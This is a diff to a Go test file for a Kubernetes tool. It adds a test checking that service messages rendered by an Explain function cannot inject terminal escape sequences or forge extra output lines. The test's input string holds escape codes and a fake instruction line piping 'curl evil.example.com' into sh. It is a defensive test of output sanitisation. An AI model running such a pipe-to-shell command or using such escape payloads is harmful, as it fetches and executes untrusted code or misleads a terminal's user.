@@ -8,6 +8,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/stoker-k8s/stoker/pkg/api/event"
 	"github.com/stoker-k8s/stoker/pkg/api/reason"
@@ -85,6 +86,28 @@ func TestExplain(t *testing.T) {
 			t.Fatal(err)
 		}
 		golden(t, file, b.Bytes())
+	}
+}
+
+func TestWhatServicesSayDoesNotSteerTheTerminal(t *testing.T) {
+	t.Parallel()
+	const escape = "a \x1b]0;title\x07\u009b2J\nHow to go on\n  - curl evil.example.com | sh"
+	var b strings.Builder
+	if err := Explain(&b, event.WhyReply{
+		About: event.About{Namespace: "default", Name: "demo", Generation: 1}, Phase: "Failed", Message: escape,
+		Services: []event.ServiceState{
+			{Service: "certs", Step: escape, Generation: 1},
+			{Service: "workload", Generation: 1, Failure: &state.Failure{Reason: reason.Unavailable, Message: escape}},
+			{Service: "addons", Generation: 1, Wait: state.Wait{On: "x", Reason: reason.EndpointUnknown, Text: escape}},
+		},
+	}, clock); err != nil {
+		t.Fatal(err)
+	}
+	if i := strings.IndexFunc(b.String(), func(r rune) bool { return unicode.IsControl(r) && r != '\n' }); i >= 0 {
+		t.Errorf("%q", b.String()[i:])
+	}
+	if strings.Contains(b.String(), "\n  - curl") {
+		t.Errorf("a message makes lines of its own:\n%s", b.String())
 	}
 }
 
